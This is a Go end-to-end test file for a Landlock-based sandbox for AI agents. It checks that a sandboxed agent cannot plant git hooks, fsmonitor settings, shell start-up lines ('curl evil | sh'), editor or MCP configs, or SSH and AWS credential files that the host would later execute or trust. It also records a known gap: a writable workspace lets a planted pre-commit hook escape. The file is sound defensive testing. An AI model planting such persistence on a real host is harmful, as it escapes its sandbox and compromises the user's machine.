package e2e

// Attack battery, filesystem: writes the host later executes, stale file
// grants after an atomic replace, and deny paths that do not exist yet
// (peers §5 items 36, 37 and 40).

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// atkWriteFiles creates files relative to root with the given contents.
func atkWriteFiles(t *testing.T, root string, files map[string]string) {
	t.Helper()
	for rel, content := range files {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAttackHostExecutedWrites: with the workspace granted read-only, the
// agent tries to plant something the user's own tools run later, outside
// the sandbox: a git hook, core.hooksPath/core.fsmonitor in .git/config,
// shell start-up files, editor settings and an MCP server list. Every
// write must fail and every file must stay as it was.
func TestAttackHostExecutedWrites(t *testing.T) {
	e := newEnv(t)
	if out, err := exec.Command("git", "init", "-q", e.work).CombinedOutput(); err != nil {
		t.Skipf("needs git: %v %s", err, out)
	}
	workFiles := map[string]string{
		".git/hooks/README":     "sample hooks live here\n",
		".vscode/settings.json": "{}\n",
		".mcp.json":             "{}\n",
	}
	atkWriteFiles(t, e.work, workFiles)
	workFiles[".git/config"] = ""
	e.write(".profile", "# profile\n")
	before := map[string]string{}
	snap := func(paths ...string) {
		for _, p := range paths {
			b, _ := os.ReadFile(p)
			before[p] = string(b)
		}
	}
	for rel := range workFiles {
		snap(filepath.Join(e.work, rel))
	}
	snap(filepath.Join(e.home, ".bashrc"), filepath.Join(e.home, ".profile"))

	attacks := map[string]string{
		"git-hook-create":  "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
		"git-hooks-path":   "printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config",
		"git-fsmonitor":    "git config core.fsmonitor 'sh -c evil'",
		"git-config-swap":  "cp .git/config /tmp/c && echo '[diff]external=evil' >> /tmp/c && mv /tmp/c .git/config",
		"bashrc":           "echo 'curl evil | sh' >> " + filepath.Join(e.home, ".bashrc"),
		"profile-replace":  "echo evil > " + filepath.Join(e.home, ".profile"),
		"zshrc-create":     "echo evil > " + filepath.Join(e.home, ".zshrc"),
		"vscode-settings":  "echo '{\"terminal.integrated.shellArgs.linux\": [\"-c\", \"evil\"]}' > .vscode/settings.json",
		"vscode-tasks-new": "echo '{}' > .vscode/tasks.json",
		"mcp-json":         "echo '{\"mcpServers\": {\"x\": {\"command\": \"evil\"}}}' > .mcp.json",
		"envrc-create":     "echo evil > .envrc",
		"git-dir-remove":   "rm -rf .git/hooks",
	}
	for name, script := range attacks {
		t.Run("read-only/"+name, func(t *testing.T) {
			r := e.nono("run", "--no-diagnostics", "--read", e.work, "--", "sh", "-c", script)
			if r.code == 0 {
				t.Fatalf("write the host later executes succeeded under --read: %s", r)
			}
			mustContain(t, r, r.stderr, "Permission denied")
		})
	}
	for p, want := range before {
		if b, _ := os.ReadFile(p); string(b) != want {
			t.Errorf("%s changed: %q", p, b)
		}
	}
	for _, p := range []string{".git/hooks/pre-commit", ".vscode/tasks.json", ".envrc"} {
		if _, err := os.Stat(filepath.Join(e.work, p)); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	if _, err := os.Stat(filepath.Join(e.home, ".zshrc")); err == nil {
		t.Error("~/.zshrc was created")
	}

	// Residual risk, asserted so it stays visible: with the workspace granted
	// read-write (--allow), .git/hooks, .git/config and .vscode are inside the
	// grant and writable, so a hook planted by the agent runs on the user's
	// next `git commit` outside the sandbox. docs/security.md says so; the
	// remedy is reviewing .git/ and editor settings after a session, or
	// granting the workspace read-only. Start-up files in HOME stay denied.
	r := e.nono("run", "--no-diagnostics", "--allow", e.work, "--", "sh", "-c", attacks["git-hook-create"]+" && echo planted")
	mustContain(t, r, r.stdout, "planted")
	if _, err := os.Stat(filepath.Join(e.work, ".git/hooks/pre-commit")); err != nil {
		t.Fatalf("--allow work: expected .git/hooks to be writable (documented residual risk): %v", err)
	}
	r = e.nono("run", "--no-diagnostics", "--allow", e.work, "--", "sh", "-c", attacks["bashrc"])
	if r.code == 0 {
		t.Fatalf("--allow work: ~/.bashrc was writable: %s", r)
	}
}

// TestAttackStaleFileGrantAfterReplace: Landlock attaches a rule to the
// inode the path named when the sandbox started. If the host replaces a
// granted file atomically (write a temporary file, rename it over the
// original, as editors and package managers do), the path now names a new
// inode without a rule: the child's next open of the path fails closed
// (EACCES) rather than following the path to whatever is there now. A
// descriptor opened before the swap keeps reading the old inode.
func TestAttackStaleFileGrantAfterReplace(t *testing.T) {
	needPython(t)
	e := newEnv(t)
	dir := filepath.Join(e.root, "cfg")
	f := filepath.Join(dir, "settings.json")
	atkWriteFiles(t, dir, map[string]string{"settings.json": "OLD-CONTENT"})
	ready := filepath.Join(e.work, "ready")
	swapped := filepath.Join(e.work, "swapped")
	done := make(chan result, 1)
	go func() {
		done <- e.nono("run", "--no-diagnostics", "--allow", e.work, "--read-file", f, "--", python, "-c", `
import os, sys, time
f, ready, swapped = sys.argv[1:4]
held = open(f)
print("first", open(f).read())
open(ready, "w").write("1")
for _ in range(3000):
    if os.path.exists(swapped):
        break
    time.sleep(0.01)
try:
    print("after-swap OPEN", open(f).read())
except OSError as e:
    print("after-swap errno", e.errno)
print("held", held.read())
`, f, ready, swapped)
	}()
	waitFor := func(p string) {
		for i := 0; i < 1500; i++ {
			if _, err := os.Stat(p); err == nil {
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	waitFor(ready)
	tmp := f + ".tmp"
	if err := os.WriteFile(tmp, []byte("NEW-CONTENT"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, f); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(swapped, []byte("1"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := <-done
	if r.code != 0 {
		t.Fatalf("probe failed: %s", r)
	}
	mustContain(t, r, r.stdout, "first OLD-CONTENT", "after-swap errno 13", "held OLD-CONTENT")
	if strings.Contains(r.stdout, "NEW-CONTENT") {
		t.Fatalf("the grant followed the path to the replaced inode: %s", r)
	}
	// A fresh session picks up the new inode (positive control).
	r = e.nono("run", "--no-diagnostics", "--allow", e.work, "--read-file", f, "--", "cat", f)
	mustContain(t, r, r.stdout, "NEW-CONTENT")
}

// TestAttackDenyPathsAbsentAtStart: a protected path that does not exist
// when the session starts is still protected. A grant of the whole HOME is
// refused even when HOME has no .ssh or .aws at all (the deny list is
// checked by name, not by what exists), and with only a project under HOME
// granted the child cannot create ~/.aws/credentials or ~/.ssh/ for the
// user's tools to pick up later.
func TestAttackDenyPathsAbsentAtStart(t *testing.T) {
	e := newEnv(t)
	if err := os.RemoveAll(filepath.Join(e.home, ".ssh")); err != nil {
		t.Fatal(err)
	}
	project := filepath.Join(e.home, "project")
	if err := os.MkdirAll(project, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, flag := range []string{"--allow", "--read", "--write"} {
		r := e.nono("run", flag, e.home, "--", "true")
		if r.code != 1 {
			t.Fatalf("%s HOME without .aws/.ssh: want refusal (exit 1), got %s", flag, r)
		}
		mustContain(t, r, r.stderr, filepath.Join(e.home, ".aws"), filepath.Join(e.home, ".ssh"))
	}
	for name, script := range map[string]string{
		"aws-credentials": "mkdir -p $HOME/.aws && echo '[default]' > $HOME/.aws/credentials",
		"ssh-authorized":  "mkdir -p $HOME/.ssh && echo 'ssh-ed25519 AAAA evil' > $HOME/.ssh/authorized_keys",
		"via-dotdot":      "mkdir -p " + project + "/../.aws",
		"via-symlink":     "ln -s " + filepath.Join(e.home, ".aws") + " " + project + "/aws && mkdir -p " + project + "/aws/x",
	} {
		t.Run(name, func(t *testing.T) {
			r := e.nono("run", "--no-diagnostics", "--allow", project, "--", "sh", "-c", script)
			if r.code == 0 {
				t.Fatalf("created a protected path that was absent at start: %s", r)
			}
		})
	}
	for _, p := range []string{".aws", ".ssh"} {
		if _, err := os.Lstat(filepath.Join(e.home, p)); err == nil {
			t.Errorf("~/%s exists after the attempts", p)
		}
	}
}

// TestAttackNarrowerGrantInsideBroaderOne: Landlock grants are a union, so a
// read-only grant inside a read-write one cannot take write access away
// (peers §5 item 38). nono must not pretend otherwise: it either refuses
// the combination, keeps the narrower directory unwritable, or says on
// stderr that the narrower grant has no effect. A silent write, while
// --dry-run lists the directory as [r-], fails this test.
func TestAttackNarrowerGrantInsideBroaderOne(t *testing.T) {
	e := newEnv(t)
	sub := filepath.Join(e.work, "vendor")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	r := e.nono("run", "--allow", e.work, "--read", sub, "--", "sh", "-c", "echo x > "+sub+"/planted && echo WROTE")
	refused := r.code == 1 && strings.Contains(r.stderr, sub)
	writeFailed := !strings.Contains(r.stdout, "WROTE")
	warned := strings.Contains(r.stderr, sub)
	if !refused && !writeFailed && !warned {
		t.Fatalf("--read %s inside --allow %s was silently writable (Landlock grants are a union; nono neither refused, "+
			"nor warned, and --dry-run lists it as read-only): %s", sub, e.work, r)
	}
}
